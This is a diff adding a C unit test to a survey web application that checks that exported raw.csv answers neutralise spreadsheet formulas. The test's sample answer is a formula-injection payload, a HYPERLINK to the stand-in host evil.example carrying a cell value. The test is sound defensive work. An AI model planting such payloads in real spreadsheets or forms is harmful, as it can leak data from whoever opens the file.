@@ -15,6 +15,7 @@
 #include <string.h>
 #include <jansson.h>
 #include "testsrv.h"
+#include "csvread.h"
 #include "accounts/accounts.h"
 #include "util/arena.h"
 
@@ -845,6 +846,68 @@ static void identified_answers_keep_the_account_and_preview_saves_nothing(void *
                             "WHERE r.survey_id = CAST($1 AS INTEGER) AND u.email = '" RESIDENT "'", fmt("%lld", (long long)b.id)), 1);
 }
 
+/* A resident's free-text answer that a spreadsheet would run as a formula
+ * comes out of raw.csv as text with an apostrophe in front; the scale answer
+ * stays a number. */
+static void raw_answers_csv_never_holds_a_live_formula(void **state)
+{
+    (void)state;
+    static const char EVIL[] = "=HYPERLINK(\"http://evil.example/?x=\"&A2,\"Click\")";
+    tclient staff;
+    tclient_init(&staff, &srv);
+    login_as(&staff, "fi", STAFF, PASSWORD);
+    built b;
+    build_survey(&staff, "Kaavakoe", "registered", false, true, &b);
+    const char *edit = fmt("/fi/staff/surveys/%lld", (long long)b.id);
+    tresp r;
+    const char *const identified[] = {"title_fi", "Kaavakoe", "title_sv", "Formeltest", "audience", "registered",
+                                      "anonymity", "identified", "kind", "survey", NULL};
+    post(&staff, edit, edit, identified, &r);
+    assert_int_equal(r.status, 303);
+    tresp_free(&r);
+    publish(&staff, &b);
+
+    tclient c;
+    tclient_init(&c, &srv);
+    login_as(&c, "fi", RESIDENT, PASSWORD);
+    const char *path = fmt("/fi/surveys/%s", b.slug);
+    http_get(&c, path, NULL, &r);
+    char *token = hidden_value(&r, "token");
+    tresp_free(&r);
+    char q1[32], q2[32], q3[32], yes[32];
+    snprintf(q1, sizeof q1, "q%lld", (long long)b.q1);
+    snprintf(q2, sizeof q2, "q%lld", (long long)b.q2);
+    snprintf(q3, sizeof q3, "q%lld", (long long)b.q3);
+    snprintf(yes, sizeof yes, "%lld", (long long)b.yes);
+    const char *const ans[] = {"token", token, "page", "0", "action", "next", q1, yes, q2, EVIL, q3, "4", NULL};
+    post(&c, path, path, ans, &r);
+    assert_int_equal(r.status, 303);
+    tresp_free(&r);
+    free(token);
+    tclient_free(&c);
+
+    http_get(&staff, fmt("%s/results/raw.csv", edit), NULL, &r);
+    assert_int_equal(r.status, 200);
+    assert_memory_equal(r.body.data, "\xEF\xBB\xBF", 3);
+    const char *p = r.body.data + 3, *end = r.body.data + r.body.len;
+    char **head, **row;
+    int nh = csv_read_record(&p, end, &head);
+    assert_int_equal(nh, 9);   /* 6 columns about the response, 3 questions */
+    assert_string_equal(head[7], "2. Mikä palvelussa toimi hyvin?");
+    assert_int_equal(csv_read_record(&p, end, &row), 9);
+    assert_string_equal(row[6], "Kyllä");
+    assert_string_equal(row[7], "'=HYPERLINK(\"http://evil.example/?x=\"&A2,\"Click\")");
+    assert_string_equal(row[8], "4");
+    assert_true(p == end);   /* one response */
+    csv_fields_free(head, nh);
+    csv_fields_free(row, 9);
+    /* the raw text holds no cell that starts with the formula */
+    assert_false(body_has(&r, ",\"=HYPERLINK"));
+    assert_false(body_has(&r, ",=HYPERLINK"));
+    tresp_free(&r);
+    tclient_free(&staff);
+}
+
 static void demo_surveys_open_to_their_audiences(void **state)
 {
     (void)state;
@@ -1069,6 +1132,7 @@ int main(void)
         cmocka_unit_test(audiences_are_checked),
         cmocka_unit_test(one_anonymous_answer_per_person_and_nothing_leads_back),
         cmocka_unit_test(identified_answers_keep_the_account_and_preview_saves_nothing),
+        cmocka_unit_test(raw_answers_csv_never_holds_a_live_formula),
         cmocka_unit_test(demo_surveys_open_to_their_audiences),
         cmocka_unit_test(counts_stay_equal_to_a_fresh_count_of_the_answers),
     };
